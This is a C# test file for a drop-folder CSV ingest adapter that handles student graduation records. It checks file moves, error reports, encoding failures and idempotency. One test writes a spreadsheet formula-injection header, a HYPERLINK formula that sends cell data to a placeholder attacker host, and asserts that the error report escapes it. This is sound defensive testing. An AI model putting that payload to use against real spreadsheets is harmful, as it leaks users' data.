using System.Text;
using Exchange.Adapters.Formats.Csv;
using Exchange.Adapters.Ingest;
using Exchange.Adapters.Pull;
using Exchange.Core.Model;
using Exchange.Log;
using Exchange.Testing;

namespace Exchange.Adapters.Tests;

[Collection(PostgresCollection.Name)]
public sealed class DropFolderAdapterTests(PostgresFixture postgres)
{
    static DropFolderAdapterTests() => Encoding.RegisterProvider(CodePagesEncodingProvider.Instance);

    private const string University = "12100000400000624D";

    [Fact]
    public async Task Moves_a_handled_file_to_processed_and_writes_the_error_report_beside_it()
    {
        await using var harness = await IngestHarness.CreateAsync(postgres);
        using var folder = new TempFolder("adapters-drop");
        var csv = CsvRecordReaderTests.PinyinCsv
            + "2201210346,王强,男,2003-13-01,410102200304120222,4111010001,410102,21,120203K,会计学,2022/9/1,2026.06.30,2026,,\r\n"
            + "2201210347,刘芳,女,20030412,410102200304120220,4111010001,410102,21,120203K,会计学,2022/9/1,2026.06.30,2026,,\r\n";
        await File.WriteAllBytesAsync(folder.Combine("students.csv"), Encoding.GetEncoding("GBK").GetBytes(csv));
        await File.WriteAllTextAsync(folder.Combine("students.csv.done"), "");
        var adapter = Adapter(harness, folder.Path);

        var round = await adapter.RunOnceAsync(TestTimeout.Token());

        Assert.Equal((1, 1, 2), (round.Fetched, round.Accepted, round.Rejected));
        Assert.False(File.Exists(folder.Combine("students.csv")));
        Assert.False(File.Exists(folder.Combine("students.csv.done")));
        Assert.True(File.Exists(Path.Combine(folder.Path, "processed", "students.csv")));
        var report = await File.ReadAllLinesAsync(Path.Combine(folder.Path, "processed", "students.errors.csv"), Encoding.UTF8);
        Assert.Equal(RejectedRecordsReport.Header, report[0]);
        Assert.Contains(report, l => l.StartsWith("3,CSRQ,", StringComparison.Ordinal) && l.Contains(",csv.bad-date,", StringComparison.Ordinal));
        Assert.Contains(report, l => l.StartsWith("4,SFZJH,", StringComparison.Ordinal) && l.Contains(",resident-id.check-character,", StringComparison.Ordinal));
        Assert.DoesNotContain(report, l => l.Contains("410102200304120220", StringComparison.Ordinal));
        Assert.Equal(1, await harness.CountAsync(RecordKind.Graduate));
        Assert.Equal(2, await harness.CountAsync(Topics.DeadLetter));
    }

    [Fact]
    public async Task A_column_header_written_as_a_formula_ran_as_one_when_the_error_report_was_opened_in_a_spreadsheet()
    {
        await using var harness = await IngestHarness.CreateAsync(postgres);
        using var folder = new TempFolder("adapters-drop");
        // Headers the profile does not know are reported by name, as the file wrote them.
        var header = CsvRecordReaderTests.PinyinCsv.Split("\r\n")[0] + ",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",@SUM(1+1),-2+3\r\n";
        var csv = header + "2201210346,王强,男,2003-13-01,410102200304120222,4111010001,410102,21,120203K,会计学,2022/9/1,2026.06.30,2026,,,,,\r\n";
        await File.WriteAllBytesAsync(folder.Combine("students.csv"), Encoding.GetEncoding("GBK").GetBytes(csv));
        await File.WriteAllTextAsync(folder.Combine("students.csv.done"), "");

        await Adapter(harness, folder.Path).RunOnceAsync(TestTimeout.Token());

        var report = Directory.GetFiles(folder.Path, "students.errors.csv", SearchOption.AllDirectories).Single();
        var fields = (await File.ReadAllLinesAsync(report, Encoding.UTF8)).Skip(1).SelectMany(CsvFields).ToList();
        Assert.Contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", fields);
        Assert.Contains("'@SUM(1+1)", fields);
        Assert.Contains("'-2+3", fields);
        Assert.DoesNotContain(fields, f => f.Length > 0 && f[0] is '=' or '+' or '-' or '@');
    }

    // The report's fields, unquoted (RFC 4180: a quoted field doubles its quotes).
    private static IEnumerable<string> CsvFields(string line)
    {
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < line.Length; i++)
        {
            var c = line[i];
            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"')
                (field, i) = (field.Append('"'), i + 1);
            else if (c == '"')
                quoted = !quoted;
            else if (c == ',' && !quoted)
            {
                yield return field.ToString();
                field.Clear();
            }
            else
                field.Append(c);
        }
        yield return field.ToString();
    }

    [Fact]
    public async Task An_unreadable_file_goes_to_failed_with_the_reason()
    {
        await using var harness = await IngestHarness.CreateAsync(postgres);
        using var folder = new TempFolder("adapters-drop");
        await File.WriteAllBytesAsync(folder.Combine("broken.csv"), [0x78, 0x68, 0x0A, 0x81, 0x20, 0x0A]);
        await File.WriteAllTextAsync(folder.Combine("broken.csv.done"), "");

        var round = await Adapter(harness, folder.Path).RunOnceAsync(TestTimeout.Token());

        Assert.Equal(0, round.Fetched);
        Assert.True(File.Exists(Path.Combine(folder.Path, "failed", "broken.csv")));
        var report = await File.ReadAllLinesAsync(Path.Combine(folder.Path, "failed", "broken.errors.csv"));
        Assert.StartsWith("0,,,csv.encoding,", report[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_file_without_a_marker_is_taken_only_once_its_size_and_time_stop_changing()
    {
        await using var harness = await IngestHarness.CreateAsync(postgres);
        using var folder = new TempFolder("adapters-drop");
        var path = folder.Combine("growing.csv");
        await File.WriteAllTextAsync(path, "XH,XM\n");
        var adapter = Adapter(harness, folder.Path);

        var first = await adapter.RunOnceAsync(TestTimeout.Token());
        await File.AppendAllTextAsync(path, CsvRecordReaderTests.PinyinCsv.Split("\r\n")[1]);
        File.SetLastWriteTimeUtc(path, DateTime.UtcNow.AddSeconds(5));
        var second = await adapter.RunOnceAsync(TestTimeout.Token());
        var third = await adapter.RunOnceAsync(TestTimeout.Token());

        Assert.Equal((0, 0, 1), (first.Fetched, second.Fetched, third.Fetched));
        Assert.True(File.Exists(Path.Combine(folder.Path, "processed", "growing.csv")));
    }

    [Fact]
    public async Task Dropping_the_same_file_again_appends_nothing_twice()
    {
        await using var harness = await IngestHarness.CreateAsync(postgres);
        using var folder = new TempFolder("adapters-drop");
        var adapter = Adapter(harness, folder.Path);
        foreach (var _ in Enumerable.Range(0, 2))
        {
            await File.WriteAllBytesAsync(folder.Combine("again.csv"), Encoding.GetEncoding("GBK").GetBytes(CsvRecordReaderTests.PinyinCsv));
            await File.WriteAllTextAsync(folder.Combine("again.csv.done"), "");
            await adapter.RunOnceAsync(TestTimeout.Token());
        }

        Assert.Equal(1, await harness.CountAsync(RecordKind.Graduate));
        Assert.False(File.Exists(Path.Combine(folder.Path, "processed", "again.errors.csv")));
    }

    private static DropFolderAdapter Adapter(IngestHarness harness, string folder) => new(
        new DropFolderOptions { Name = "drop-test", Folder = folder, SourceOrganisation = University, Kind = RecordKind.Graduate },
        new CsvRecordReader(MappingProfileCatalog.Load()),
        harness.Pipeline,
        harness.Logger);
}
